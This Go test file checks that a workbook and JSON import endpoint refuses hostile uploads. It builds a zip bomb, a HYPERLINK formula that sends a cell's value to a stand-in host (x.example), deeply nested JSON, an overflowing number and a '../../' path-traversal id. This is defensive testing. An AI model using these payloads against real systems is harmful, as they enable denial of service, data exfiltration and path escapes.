package items

import (
	"archive/zip"
	"bytes"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

// rezip writes an archive again with one more file, or another in its place.
func rezip(t *testing.T, archive []byte, name string, write func(io.Writer)) []byte {
	t.Helper()
	from, err := zip.NewReader(bytes.NewReader(archive), int64(len(archive)))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	to := zip.NewWriter(&out)
	for _, file := range from.File {
		if file.Name != name {
			if err := to.Copy(file); err != nil {
				t.Fatal(err)
			}
		}
	}
	w, err := to.Create(name)
	if err != nil {
		t.Fatal(err)
	}
	write(w)
	if err := to.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// reworked is a workbook after a change by an author.
func reworked(t *testing.T, workbook []byte, change func(*excelize.File)) []byte {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(workbook))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	change(f)
	var out bytes.Buffer
	if err := f.Write(&out); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// TestHostileFiles: whatever is sent is refused in a sentence, soon, and changes nothing.
func TestHostileFiles(t *testing.T) {
	d := newDesk(t)
	before, sheets := d.export("json"), d.export("xlsx")
	for name, c := range map[string]struct {
		file string
		data []byte
	}{
		"a bomb": {"a.xlsx", rezip(t, sheets, "xl/worksheets/sheet2.xml", func(w io.Writer) {
			zeros := make([]byte, 1<<20)
			for range mostUnzipped>>20 + 1 {
				_, _ = w.Write(zeros) // a buffer never fails
			}
		})},
		"too many rows": {"a.xlsx", reworked(t, sheets, func(f *excelize.File) {
			for line := range mostRows + 10 {
				cell, _ := excelize.CoordinatesToCellName(1, line+100)
				if err := f.SetCellStr(itemSheet, cell, "x"); err != nil {
					t.Fatal(err)
				}
			}
		})},
		"a formula": {"a.xlsx", reworked(t, sheets, func(f *excelize.File) {
			if err := f.SetCellFormula(itemSheet, "A2", `HYPERLINK("http://x.example/?"&B2,"c1")`); err != nil {
				t.Fatal(err)
			}
		})},
		"no XML":         {"a.xlsx", rezip(t, sheets, "xl/workbook.xml", func(w io.Writer) { _, _ = io.WriteString(w, "<a>") })},
		"deep lists":     {"a.json", []byte(`{"items":` + strings.Repeat("[", 5<<20))},
		"deep objects":   {"a.json", []byte(strings.Repeat(`{"a":`, 1<<20))},
		"a list":         {"a.json", []byte(`[]`)},
		"nothing":        {"a.json", nil},
		"numbers":        {"a.json", bytes.Replace(before, []byte(`"points": 1`), []byte(`"points": 1e999`), 1)},
		"negative":       {"a.json", bytes.Replace(before, []byte(`"points": 1`), []byte(`"points": -1`), 1)},
		"a path as code": {"a.json", bytes.Replace(before, []byte(`"id": "c1"`), []byte(`"id": "../../c1"`), 1)},
	} {
		began := time.Now()
		status, said := d.upload("/api/items/livraison/import", c.file, c.data)
		if status != 400 || len(said.Problems) == 0 && said.Message == "" || len(said.Problems) > mostProblems {
			t.Errorf("%s: %d %q %d problems", name, status, said.Message, len(said.Problems))
		}
		if took := time.Since(began); took > 20*time.Second {
			t.Errorf("%s: took %v", name, took)
		}
		if got := d.export("json"); !bytes.Equal(got, before) {
			t.Fatalf("%s: the draft changed", name)
		}
	}
}
